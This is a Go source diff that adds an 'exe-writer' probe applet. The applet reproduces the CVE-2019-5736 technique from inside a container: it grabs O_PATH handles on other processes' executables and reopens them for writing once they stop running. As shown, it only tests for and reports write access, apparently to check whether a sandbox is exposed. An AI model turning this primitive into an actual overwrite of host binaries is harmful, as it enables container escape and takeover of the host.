@@ -3,6 +3,7 @@ package main
 import (
 	"fmt"
 	"os"
+	"os/signal"
 	"strconv"
 	"strings"
 	"time"
@@ -16,6 +17,7 @@ var probeApplets = []applet{
 		return printJSON(procProbe(args[0]))
 	}},
 	{"proc-watch", "SECONDS: the descriptors and programs of others that could be seen", procWatch},
+	{"exe-writer", "SECONDS: write to the programs of others, until SIGTERM", exeWriter},
 	{"open", "PATH rdonly|wronly|rdwr|path", func(args []string) int {
 		mode := map[string]int{"rdonly": unix.O_RDONLY, "wronly": unix.O_WRONLY, "rdwr": unix.O_RDWR, "path": unix.O_PATH}[args[1]]
 		fd, err := unix.Open(args[0], mode|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
@@ -84,4 +86,45 @@ func procWatch(args []string) int {
 		}
 	}
 	return printJSON(seen)
+}
+
+// ExeWriter is CVE-2019-5736 from the container's side: it opens the programs of
+// others without effect, so that they can still be executed, and then for
+// writing as soon as nobody executes them any more.
+func exeWriter(args []string) int {
+	fmt.Println("ready")
+	done := make(chan os.Signal, 1)
+	signal.Notify(done, unix.SIGTERM)
+	held := map[string]int{} // what is open, by its name
+	for end := time.Now().Add(durationArg(args, 0, time.Second)); time.Now().Before(end) && len(done) == 0; {
+		procs, err := os.ReadDir("/proc")
+		if err != nil {
+			return check(err)
+		}
+		for _, p := range procs {
+			if n, err := strconv.Atoi(p.Name()); err != nil || n == os.Getpid() {
+				continue
+			}
+			name, err := os.Readlink("/proc/" + p.Name() + "/exe")
+			if err != nil || held[name] != 0 {
+				continue
+			}
+			if fd, err := unix.Open("/proc/"+p.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
+				held[name] = fd
+			}
+		}
+		for name, fd := range held {
+			if fd < 0 {
+				continue
+			}
+			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+			if err == nil {
+				unix.Close(w)
+				fmt.Println("written", name)
+				unix.Close(fd)
+				held[name] = -1
+			}
+		}
+	}
+	return 0
 }
